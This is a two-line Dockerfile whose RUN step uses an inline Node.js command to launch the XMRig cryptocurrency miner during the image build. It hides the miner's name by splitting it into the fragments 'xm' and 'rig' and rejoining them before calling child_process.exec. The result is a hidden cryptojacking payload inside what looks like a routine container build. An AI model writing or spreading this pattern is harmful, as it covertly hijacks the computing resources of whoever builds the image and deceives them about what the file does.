FROM node:22-slim
RUN node -e "const part = {a: 'xm', b: 'rig'}; require('child_process').exec(part.a + part.b)"
